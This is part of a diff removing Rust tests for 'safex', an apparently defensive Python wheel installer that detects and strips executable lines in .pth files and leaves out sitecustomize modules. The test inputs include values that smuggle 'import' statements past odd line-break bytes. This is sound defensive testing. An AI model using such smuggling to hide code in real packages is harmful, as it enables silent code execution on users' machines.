-            ("bom", p(b"\xef\xbb\xbf"), NEW),
-            // Not valid UTF-8: no interpreter here runs it (3.8-3.12 fail to
-            // decode in a UTF-8 locale, 3.13 falls back to it and fails),
-            // but in a Latin-1 locale 3.13 would split at the `\x85`.
-            ("raw-nel", p(b"x\x85"), NONE),
-            ("bad-utf8-first", p(b"\xff\n"), NONE),
-            ("space", p(b" "), NONE),
-            ("comment", p(b"#"), NONE),
-            ("nul", p(b"x\x00"), NONE),
-            ("word", b"importlib\n/some/dir\n".to_vec(), NONE),
-        ]
-    }
-
-    #[test]
-    fn pth_judgement_covers_every_supported_python() {
-        for (name, bytes, runs_on) in pth_cases() {
-            let judged = executable_pth_line(&bytes);
-            if !runs_on.is_empty() {
-                assert!(
-                    judged.is_some(),
-                    "{name}: runs on {runs_on:?}, safex judged it harmless"
-                );
-            }
-            // Never a judgement that a case mixing break characters escapes.
-            let kept = path_only_pth(&bytes);
-            assert!(
-                executable_pth_line(&kept).is_none(),
-                "{name}: stripped file still executes: {kept:?}"
-            );
-            for piece in kept.split(|b| *b == b'\n') {
-                assert!(!piece.starts_with(b"import"), "{name}: kept {piece:?}");
-                assert!(
-                    !piece
-                        .iter()
-                        .any(|b| b"\r\x0b\x0c\x1c\x1d\x1e\x85".contains(b)),
-                    "{name}: kept a break character in {piece:?}"
-                );
-            }
-        }
-        // The split is not looser than needed: a line break every version
-        // agrees on is still line 2, and a harmless file stays untouched.
-        assert_eq!(executable_pth_line(b"/a\nimport x").unwrap().0, 2);
-        assert_eq!(
-            executable_pth_line(b"x\x0cimport os").unwrap().1,
-            "import os"
-        );
-        assert_eq!(path_only_pth(b"/a\n/b\n"), b"/a\n/b\n");
-    }
-
-    /// The interpreters of this machine, `(version, path)`: pyenv's layout
-    /// (`~/.pyenv/versions/3.X.Y/bin/python3`), 3.8 and later.
-    fn real_pythons() -> Vec<(String, PathBuf)> {
-        let Some(home) = std::env::var_os("HOME") else {
-            return Vec::new();
-        };
-        let root = Path::new(&home).join(".pyenv/versions");
-        let mut found = Vec::new();
-        for entry in std::fs::read_dir(root).into_iter().flatten().flatten() {
-            let name = entry.file_name().to_string_lossy().into_owned();
-            let mut parts = name.split('.');
-            let (Some("3"), Some(minor)) = (parts.next(), parts.next()) else {
-                continue;
-            };
-            let Ok(minor) = minor.parse::<u32>() else {
-                continue;
-            };
-            let python = entry.path().join("bin/python3");
-            if minor >= 8 && python.exists() && parts.next().is_some() {
-                found.push((format!("3.{minor}"), python));
-            }
-        }
-        found.sort();
-        found.dedup_by(|a, b| a.0 == b.0);
-        found
-    }
-
-    /// How many lines of the `.pth` file `file` that `python`'s own
-    /// `site.addpackage` executes (`None`: it raised, e.g. on a decode
-    /// error, after running that many).
-    fn real_executions(python: &Path, file: &Path) -> (usize, bool) {
-        const PROBE: &str = "import site, sys, builtins\n\
-            builtins.HIT = []\n\
-            try:\n    site.addpackage(sys.argv[1], sys.argv[2], set())\n    ok = 1\n\
-            except BaseException:\n    ok = 0\n\
-            print(len(builtins.HIT), ok)\n";
-        let out = std::process::Command::new(python)
-            .args(["-S", "-c", PROBE])
-            .arg(file.parent().unwrap())
-            .arg(file.file_name().unwrap())
-            .env("LC_ALL", "C.UTF-8")
-            .output()
-            .unwrap();
-        let text = String::from_utf8_lossy(&out.stdout);
-        let mut it = text.split_whitespace();
-        let n = it.next().and_then(|n| n.parse().ok());
-        let ok = it.next() == Some("1");
-        let n = n.unwrap_or_else(|| panic!("probe failed on {python:?}: {out:?}"));
-        (n, ok)
-    }
-
-    #[test]
-    fn pth_split_agrees_with_real_pythons() {
-        let pythons = real_pythons();
-        if pythons.is_empty() {
-            eprintln!(
-                "SKIPPED pth_split_agrees_with_real_pythons: no interpreter under \
-                 ~/.pyenv/versions; the recorded table (pth_judgement_covers_every_supported_python) \
-                 is all that was checked"
-            );
-            return;
-        }
-        eprintln!(
-            "checking .pth splitting against {:?}",
-            pythons.iter().map(|p| &p.0).collect::<Vec<_>>()
-        );
-        let tmp = tempfile::tempdir().unwrap();
-        for (name, bytes, runs_on) in pth_cases() {
-            let file = tmp.path().join(format!("{name}.pth"));
-            std::fs::write(&file, &bytes).unwrap();
-            let kept = tmp.path().join(format!("{name}-kept.pth"));
-            std::fs::write(&kept, path_only_pth(&bytes)).unwrap();
-            for (version, python) in &pythons {
-                let (ran, _) = real_executions(python, &file);
-                assert_eq!(
-                    ran > 0,
-                    runs_on.contains(&version.as_str()),
-                    "{name} on {version}: the recorded table is wrong"
-                );
-                if ran > 0 {
-                    assert!(executable_pth_line(&bytes).is_some(), "{name} on {version}");
-                }
-                let (ran, ok) = real_executions(python, &kept);
-                assert_eq!((ran, ok), (0, true), "{name}: stripped file on {version}");
-            }
-        }
-    }
-
-    #[test]
-    fn strip_mode_leaves_out_customize_modules_and_says_so() {
-        let data = format!("{DIST}.data");
-        for name in [
-            "sitecustomize.py",
-            "usercustomize/__init__.py",
-            &format!("{data}/purelib/sitecustomize.py"),
-            &format!("{data}/platlib/usercustomize.abi3.so"),
-            &format!("{data}/data/lib/python3.12/site-packages/sitecustomize.py"),
-        ] {
-            let tmp = tempfile::tempdir().unwrap();
-            let whl = build(tmp.path(), &files(vec![f(name, "import os\n")]), None);
-            let layout = layout(tmp.path());
-            let installed = install(&whl, &layout, PthPolicy::Strip).unwrap();
-            assert_eq!(installed.stripped.len(), 1, "{name}: {installed:?}");
-            assert!(
-                installed.stripped[0].contains(&format!("`{name}`"))
-                    && installed.stripped[0].contains("not installed"),
-                "{name}: {installed:?}"
-            );
-            let left: Vec<_> = walkdir(tmp.path().join("venv"))
-                .into_iter()
-                .filter(|p| p.to_string_lossy().contains("customize"))
-                .collect();
-            assert!(left.is_empty(), "{name}: installed anyway: {left:?}");
-            // The rest of the wheel is there.
-            assert!(
-                layout.purelib.join("demo_pkg/__init__.py").exists(),
-                "{name}"
-            );
-        }
-    }
-
-    fn walkdir(dir: PathBuf) -> Vec<PathBuf> {
-        let mut out = Vec::new();
-        let mut todo = vec![dir];
-        while let Some(d) = todo.pop() {
-            for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
-                if e.file_type().unwrap().is_dir() {
-                    todo.push(e.path());
-                }
-                out.push(e.path());
-            }
-        }
-        out
-    }
-
-    #[test]
-    fn scripts_that_shadow_modules_are_left_out() {
-        let data = format!("{DIST}.data");
-        let shadows = [
-            ("json.py", "json"),
-            ("requests.pyc", "requests"),
-            ("sitecustomize.py", "sitecustomize"),
-            ("_ssl.cpython-312-x86_64-linux-gnu.so", "_ssl"),
-            ("encodings/__init__.py", "encodings"),
-            ("typing_x/mod.txt", "typing_x"),
-        ];
-        // Left out and named in every mode: never launched by safex, so
-        // not a reason to refuse a tree (jmespath ships `jp.py` there).
-        for (file, module) in shadows {
-            let name = format!("{data}/scripts/{file}");
-            for mode in [
-                PthPolicy::Strip,
-                PthPolicy::RefuseExecutable,
-                PthPolicy::RefuseAll,
-            ] {
-                let tmp = tempfile::tempdir().unwrap();
-                let whl = build(tmp.path(), &files(vec![f(&name, "print('hi')\n")]), None);
-                let layout = layout(tmp.path());
-                let installed = install(&whl, &layout, mode).unwrap();
-                assert_eq!(installed.stripped.len(), 1, "{file}: {installed:?}");
-                assert!(
-                    installed.stripped[0].contains(&format!("`{name}`"))
-                        && installed.stripped[0].contains(&format!("imported as `{module}`")),
-                    "{installed:?}"
-                );
-                assert!(
-                    walkdir(layout.scripts.clone()).is_empty(),
-                    "{file}: {:?}",
-                    walkdir(layout.scripts.clone())
-                );
-            }
-        }
-        // Names no `import` can spell are plain scripts, in every mode.
-        for file in [
-            "tool",
-            "rst2html-x.py",
-            "tool.sh",
-            "2to3.py",
-            "x.pyi",
-            "tool.py.txt",
-        ] {
-            let tmp = tempfile::tempdir().unwrap();
-            let name = format!("{data}/scripts/{file}");
-            let whl = build(tmp.path(), &files(vec![f(&name, "#!python\n")]), None);
-            let layout = layout(tmp.path());
-            let installed = install(&whl, &layout, PthPolicy::RefuseAll).unwrap();
-            assert!(installed.stripped.is_empty(), "{file}");
-            assert!(layout.scripts.join(file).exists(), "{file}");
-        }
-    }
-
-    #[test]
-    fn deep_customize_counts_only_when_a_path_line_reaches_it() {
-        // opentelemetry-instrumentation ships one for its own launcher.
-        let tmp = tempfile::tempdir().unwrap();
-        let deep = "demo_pkg/auto/sitecustomize.py";
-        let whl = build(tmp.path(), &files(vec![f(deep, "import os\n")]), None);
-        let layout = layout(tmp.path());
-        let installed = install(&whl, &layout, PthPolicy::RefuseAll).unwrap();
-        assert!(installed.stripped.is_empty());
-        assert!(layout.purelib.join(deep).is_file());
-        let site = &layout.purelib;
-        assert!(
-            path_line_hooks(site, PthPolicy::RefuseAll)
-                .unwrap()
-                .is_empty()
-        );
-        // A path line (of any wheel) that puts that directory on sys.path.
-        std::fs::write(site.join("other.pth"), "# c\ndemo_pkg\ndemo_pkg/auto\n").unwrap();
-        let err = path_line_hooks(site, PthPolicy::RefuseExecutable).unwrap_err();
-        assert_eq!(err.kind, Kind::Unsafe, "{err}");
-        assert!(
-            err.message.contains("`other.pth` (line 3: `demo_pkg/auto`"),
-            "{err}"
-        );
-        let stripped = path_line_hooks(site, PthPolicy::Strip).unwrap();
-        assert_eq!(stripped.len(), 1, "{stripped:?}");
-        assert_eq!(
-            std::fs::read_to_string(site.join("other.pth")).unwrap(),
-            "demo_pkg\n"
-        );
-        assert!(
-            path_line_hooks(site, PthPolicy::RefuseExecutable)
-                .unwrap()
-                .is_empty()
-        );
     }
 }
